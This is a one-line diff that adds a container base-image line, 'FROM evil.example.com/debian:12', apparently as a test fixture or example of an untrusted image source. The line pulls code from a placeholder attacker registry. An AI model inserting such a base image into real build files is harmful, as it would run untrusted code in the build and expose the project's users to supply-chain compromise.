@@ -1,0 +1,1 @@
+FROM evil.example.com/debian:12
